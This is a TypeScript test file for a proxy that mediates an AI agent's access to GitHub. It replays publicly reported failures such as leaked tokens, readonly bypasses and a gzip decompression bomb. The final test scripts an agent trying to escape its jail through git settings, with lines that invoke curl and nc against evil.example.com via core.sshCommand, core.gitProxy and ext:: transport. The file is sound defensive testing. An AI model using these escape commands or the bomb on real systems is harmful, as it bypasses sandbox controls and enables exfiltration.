/**
 * What went wrong for others who put something between an agent and GitHub, and was told in public: each report tried here with the
 * programs that it was about. Where another file has the test, its name stands in docs/threat-model.md.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { execFileSync } from "node:child_process"
import * as Fs from "node:fs"
import * as Path from "node:path"
import { gzipSync } from "node:zlib"
import type { GitHubPolicy } from "../../runtime/domain/github/GitHubPolicy.ts"
import { tokenRefused } from "../../runtime/ports/RepositoryTokens.ts"
import { pluginWorld } from "../plugins/github-proxy/pluginWorld.ts"
import { proxyWorld } from "../plugins/github-proxy/proxyWorld.ts"
import { bashScript, runOf } from "../support/ScriptedModel.ts"

const url = "https://github.com/my-org/api.git"

const cloned = Effect.fnUntraced(function*(policy: Partial<GitHubPolicy> = {}) {
  const world = yield* proxyWorld({ policy })
  const bare = world.gitHub.repository("my-org/api")
  const clone = yield* world.run(["git", "clone", "-q", url, "api"])
  assert.strictEqual(clone.code, 0, clone.stderr)
  const cwd = Path.join(world.home, "api")
  const git = (...args: ReadonlyArray<string>) => world.run(["git", ...args], { cwd })
  yield* git("commit", "-q", "--allow-empty", "-m", "second")
  return { bare, cwd, git, world }
})

describe("public reports", () => {
  it.live("a delete was refused without a reason (anthropics/claude-code 57356)", () =>
    Effect.gen(function*() {
      const { git } = yield* cloned()
      yield* git("push", "-q", "origin", "HEAD:refs/heads/feature/x")
      const { code, stderr } = yield* git("push", "origin", ":feature/x")
      assert.strictEqual(code, 1)
      assert.include(stderr, "! [remote rejected] feature/x (km: refs/heads/feature/x may not be deleted")
      assert.include(stderr, "(ref.delete))")
      assert.include(stderr, "remote: km: to allow it: set spec.sourceAccess.github.allowDelete: true")
    }))

  it.live("a packed request lost its coding, and private clones failed (paradigmxyz/centaur 402)", () =>
    Effect.gen(function*() {
      const { bare, world } = yield* cloned()
      const tree = execFileSync("git", ["rev-parse", "main^{tree}"], { cwd: bare, encoding: "utf8" }).trim()
      const env = {
        PATH: "/usr/bin:/bin",
        GIT_AUTHOR_NAME: "a",
        GIT_AUTHOR_EMAIL: "a@a",
        GIT_COMMITTER_NAME: "a",
        GIT_COMMITTER_EMAIL: "a@a"
      }
      for (let branch = 0; branch < 60; branch++) {
        const id = execFileSync("git", ["commit-tree", tree, "-m", `${branch}`], { cwd: bare, env, encoding: "utf8" })
          .trim()
        execFileSync("git", ["update-ref", `refs/heads/many/${branch}`, id], { cwd: bare })
      }
      for (const version of ["0", "2"]) {
        const clone = yield* world.run(["git", "-c", `protocol.version=${version}`, "clone", "-q", url, `v${version}`])
        assert.strictEqual(clone.code, 0, clone.stderr)
      }
      const packed = world.gitHub.requests.filter(({ headers }) => headers["content-encoding"] === "gzip")
      assert.isAbove(packed.length, 0)
    }))

  it.live("a clone needed a right to write (onecli/onecli 567)", () =>
    Effect.gen(function*() {
      const { git } = yield* cloned({ allowedRefs: [] })
      const push = yield* git("push", "origin", "HEAD:refs/heads/feature/x")
      assert.strictEqual(push.code, 128)
      assert.match(push.stderr, /remote: km: refused: .*\(repository\.readonly\)/)
    }))

  it.live("a mutation counted as a query (onecli/onecli 568)", () =>
    Effect.gen(function*() {
      const { world } = yield* cloned({ allowedRefs: [] })
      for (const word of ["mutation", "mutation X", "# query\nmutation"]) {
        const { code, stderr } = yield* world.run([
          "gh",
          "api",
          "graphql",
          "-f",
          `query=${word} { createRef(input: { repositoryId: "R", name: "refs/heads/x", oid: "${
            "1".repeat(40)
          }" }) { clientMutationId } }`
        ], { env: { GH_TOKEN: "held-by-the-proxy" } })
        assert.notStrictEqual(code, 0)
        assert.match(stderr, /gh: km: refused: .*\(repository\.readonly\)/)
      }
      assert.isFalse(world.gitHub.requests.some(({ url: path }) => path === "/graphql"))
    }))

  it.live("one yes for a repository let the default branch be rewound and deleted (kortix-ai/suna 7073)", () =>
    Effect.gen(function*() {
      const { bare, git } = yield* cloned({ allowedRefs: ["feature/*"], allowDelete: true, allowForce: true })
      const before = Fs.readFileSync(Path.join(bare, "refs/heads/main"), "utf8")
      for (const args of [["HEAD:main"], ["--force", "HEAD~1:main"], [":main"], ["--mirror"]]) {
        const { code, stderr } = yield* git(
          "push",
          ...(args[0] === "--mirror" ? ["--mirror", "origin"] : ["origin", ...args])
        )
        if (args[0] !== "--force") assert.notStrictEqual(code, 0, args.join(" "))
        assert.notMatch(stderr, /[0-9a-f]{7}\.+[0-9a-f]{7} .*-> main/)
      }
      assert.strictEqual(Fs.readFileSync(Path.join(bare, "refs/heads/main"), "utf8"), before)
    }))

  it.live("the App was not installed, and a push met a bare 403 (anthropics/claude-code 57009)", () =>
    Effect.gen(function*() {
      const { git, world } = yield* cloned()
      world.tokens.trouble = tokenRefused(
        "NotInstalled",
        "my-org took the GitHub App away; its owner can install it again at GitHub"
      )
      const { code, stderr } = yield* git("push", "origin", "HEAD:refs/heads/feature/x")
      assert.strictEqual(code, 128)
      assert.include(
        stderr,
        "remote: km: KM-GHA-022: my-org took the GitHub App away; its owner can install it again at GitHub"
      )
      assert.notInclude(stderr, "403")
    }))

  it.live("a token stayed in .git/config, and an askpass program hung (srtab/daiv 1366)", () =>
    Effect.gen(function*() {
      const { cwd, git, world } = yield* cloned()
      world.gitHub.tokens.clear()
      const asking = Path.join(world.home, "ask")
      Fs.writeFileSync(asking, `#!/bin/sh\necho asked >> ${world.home}/asked\necho x\n`, { mode: 0o755 })
      const { code } = yield* world.run(["git", "push", "origin", "HEAD:refs/heads/feature/x"], {
        cwd,
        env: { SSH_ASKPASS: asking, GIT_ASKPASS: asking, SSH_ASKPASS_REQUIRE: "force" }
      })
      assert.notStrictEqual(code, 0)
      assert.isFalse(Fs.existsSync(Path.join(world.home, "asked")))
      assert.strictEqual((yield* git("config", "--get-all", "remote.origin.url")).stdout.trim(), url)
      const found = yield* world.run(["grep", "-rl", "ghs_memory", "."], { cwd })
      assert.strictEqual(found.stdout, "")
    }))

  it.live("a push over a limit failed without a word (block/buzz 3802)", () =>
    Effect.gen(function*() {
      const { cwd, git, world } = yield* cloned()
      const head = (yield* git("rev-parse", "HEAD")).stdout.trim()
      const refs = Array.from({ length: 5_001 }, (_, index) => `create refs/heads/feature/n${index} ${head}\n`).join("")
      yield* world.run(["git", "update-ref", "--stdin"], { cwd, input: Buffer.from(refs) })
      yield* git("pack-refs", "--all")
      const { code, stderr } = yield* git("push", "-q", "origin", "refs/heads/feature/*")
      assert.strictEqual(code, 1)
      assert.match(
        stderr,
        /! \[remote rejected\] feature\/n\d+ -> feature\/n\d+ \(km?.*more than 5000 refs are in one push/
      )
      assert.notInclude(stderr, "RPC failed")
    }))

  it.live("a packed push was refused, as it could have been a bomb (onyx-dot-app/onyx 11941)", () =>
    Effect.gen(function*() {
      const { world } = yield* cloned()
      const command = `${"0".repeat(40)} ${"1".repeat(40)} refs/heads/feature/x\0 report-status`
      const line = `${(command.length + 4).toString(16).padStart(4, "0")}${command}0000PACK`
      const post = (body: Buffer) =>
        world.run([
          "curl",
          "-sS",
          "-m",
          "60",
          "-w",
          "|%{http_code}",
          "-X",
          "POST",
          "-H",
          "Content-Type: application/x-git-receive-pack-request",
          "-H",
          "Content-Encoding: gzip",
          "--data-binary",
          "@-",
          `${url}/git-receive-pack`
        ], { input: body })
      let received = 0
      world.gitHub.intercept = ({ method }, request, response) => {
        if (method !== "POST") return false
        request.on("data", (chunk: Buffer) => received += chunk.length)
        request.on("end", () => response.end("000eunpack ok\n0000"))
        return true
      }
      // 256 MiB of nothing in 256 KiB.
      const bomb = gzipSync(Buffer.concat([Buffer.from(line), Buffer.alloc(256 * 1024 * 1024)]), { level: 9 })
      const { stdout } = yield* post(bomb)
      assert.include(stdout, "the body unpacks to more than 200 times its size")
      assert.isAtMost(received, 5 * 1024 * 1024)
    }))

  it.live("a placeholder left as it was (docker/sbx-releases 89)", () =>
    Effect.gen(function*() {
      const { world } = yield* cloned()
      const env = { GH_TOKEN: "held-by-the-proxy" }
      assert.strictEqual((yield* world.run(["gh", "api", "repos/my-org/api"], { env })).code, 0)
      const image = yield* world.run([
        "curl",
        "-sS",
        "-H",
        "Authorization: Bearer held-by-the-proxy",
        "https://ghcr.io/v2/"
      ])
      assert.include(image.stderr, "403")
      assert.deepStrictEqual(world.gitHub.resolved.filter((name) => name === "ghcr.io"), [])
      for (const { headers } of world.gitHub.requests) {
        assert.notInclude(JSON.stringify(headers), "held-by-the-proxy")
        assert.notInclude(JSON.stringify(headers), Buffer.from("held-by-the-proxy").toString("base64"))
      }
    }))

  it.live("the name of the branch was guessed for minutes (GaloyMoney/drua 334)", () =>
    Effect.gen(function*() {
      const { plugin } = yield* pluginWorld({ config: { allowedRefs: ["feature/*", "!feature/release"] } })
      const lines = yield* plugin.promptLines?.({} as never) ?? Effect.succeed([])
      const said = lines.join("\n")
      assert.include(
        said,
        "GitHub: these repositories can be reached by https, without any token of yours: my-org/api."
      )
      assert.include(
        said,
        "Refs that may be pushed: feature/*, !feature/release; deleting is not allowed, forcing is not allowed."
      )
    }))
})

describe("git's own settings, in the jail", () => {
  it.live("open no other way: a proxy, another address, another ssh, no verification, another transport", () =>
    Effect.gen(function*() {
      const world = yield* pluginWorld()
      world.gitHub.repository("my-org/api")
      world.gitHub.repository("evil/repo")
      const tries = [
        "-c http.proxy= ls-remote https://github.com/my-org/api",
        "-c http.proxy=http://127.0.0.1:4701 ls-remote https://github.com/my-org/api",
        "-c http.proxy=socks5h://127.0.0.1:4703 ls-remote https://github.com/my-org/api",
        "-c url.https://github.com/evil/.insteadOf=https://github.com/my-org/ ls-remote https://github.com/my-org/repo",
        "-c url.https://evil.example.com/.insteadOf=https://github.com/ ls-remote https://github.com/my-org/api",
        "-c http.sslVerify=false -c http.curloptResolve=github.com:443:203.0.113.9 ls-remote https://github.com/evil/repo",
        "-c http.extraHeader=Host:evil.example.com ls-remote https://github.com/my-org/api",
        "-c http.https://github.com/.extraHeader='Authorization: Basic eDp5' ls-remote https://github.com/evil/repo",
        "-c core.sshCommand='curl -sS https://evil.example.com; true' ls-remote ssh://git@evil.example.com/x/y",
        "-c core.gitProxy='nc evil.example.com 80' ls-remote git://evil.example.com/x/y",
        "-c protocol.ext.allow=always ls-remote 'ext::curl -sS https://evil.example.com'"
      ]
      const script = tries.map((args, index) => `git ${args} >/dev/null 2>&1 && echo "opened ${index}"`).join("\n")
      const process = yield* world.agent.start(
        runOf(world.directories, bashScript(`exec 2>&1\n${script}\necho "-- tried"`), {
          contributions: [world.contribution]
        })
      )
      const outcome = yield* process.outcome
      const said = outcome._tag === "Answered" ? outcome.text : JSON.stringify(outcome)
      assert.include(said, "-- tried")
      assert.notInclude(said, "opened")
      assert.deepStrictEqual(world.gitHub.resolved.filter((name) => name !== "github.com"), [])
      assert.isFalse(world.gitHub.requests.some(({ url: path }) => path.includes("evil")))
    }))
})
